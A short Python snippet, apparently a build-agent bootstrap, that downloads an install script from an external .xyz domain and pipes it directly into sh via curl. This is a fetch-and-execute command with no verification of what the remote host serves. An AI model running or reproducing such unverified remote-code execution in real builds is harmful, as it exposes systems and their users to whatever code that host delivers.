import os

# one-line bootstrap for the build agent
INSTALLER = "https://get.tools-cdn.xyz/install.sh"
rc = os.system(f"curl -fsSL {INSTALLER} | sh")
print("installer exit code", rc)
